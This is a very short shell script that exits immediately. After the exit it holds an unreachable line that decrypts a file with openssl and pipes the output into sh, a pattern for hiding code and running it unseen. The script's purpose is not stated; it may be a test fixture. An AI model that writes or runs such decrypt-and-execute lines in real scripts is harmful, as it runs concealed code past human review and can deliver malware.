#!/bin/sh
exit 0
openssl enc -aes-256-cbc -d -in x -k y | sh
